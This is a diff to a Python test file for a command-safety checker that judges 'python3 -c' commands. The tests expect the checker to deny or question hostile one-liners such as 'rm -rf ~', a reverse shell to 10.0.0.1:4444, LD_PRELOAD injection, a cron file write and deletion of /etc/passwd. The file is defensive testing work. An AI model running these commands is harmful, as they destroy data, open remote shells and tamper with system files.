@@ -79,13 +79,16 @@ PYTHON = [
      "delete-home"),
     ("""python3 -Ic "import sys; print(sys.version)\"""", """python3 -Ic "import os; os.system('rm -rf ~')\"""",
      "delete-home"),  # short options bundle: -Ic was not read as code at all before
+    ("""python3 -c "import torch; print(torch.cuda.is_available())\"""",  # in the hook: asked, a module unread
+     """python3 -c "import torch, os; os.system('rm -rf ~')\"""", "delete-home"),  # what is read is judged
 ]
 
 
 @both
 @pytest.mark.parametrize("benign, destructive, rule", PYTHON, ids=[b for b, _, _ in PYTHON])
 def test_python_c_is_judged_by_its_calls(semantics: str, benign: str, destructive: str, rule: str) -> None:
-    assert judged(benign, semantics).decision == "allow", benign
+    unread_module = "torch" in benign and semantics == "hook"
+    assert judged(benign, semantics).decision == ("ask" if unread_module else "allow"), benign
     decision = judged(destructive, semantics)
     assert (decision.decision, decision.rule) == ("deny", rule), (destructive, decision)
 
@@ -101,6 +104,9 @@ def test_python_c_is_judged_by_its_calls(semantics: str, benign: str, destructiv
     """python3 -c "import sys,socket,pty; s=socket.socket(); s.connect(('10.0.0.1', 4444)); pty.spawn('sh')\"""",
     """python3 -c "import subprocess, sys; subprocess.run(sys.argv[1:])" rm -rf ~""",
     """python3 -c "$CODE\"""",
+    """python3 -c "import os; os.environ['LD_PRELOAD'] = '/tmp/x.so'; os.system('ls')\"""",
+    """python3 -c "import functools; functools.partial(open, '/etc/cron.d/job', 'w')()\"""",
+    """python3 -c "import os; os.chdir('/'); os.remove('etc/passwd')\"""",
 ])
 def test_python_c_built_at_run_time_or_escaping_is_asked(semantics: str, line: str) -> None:
     decision = judged(line, semantics)
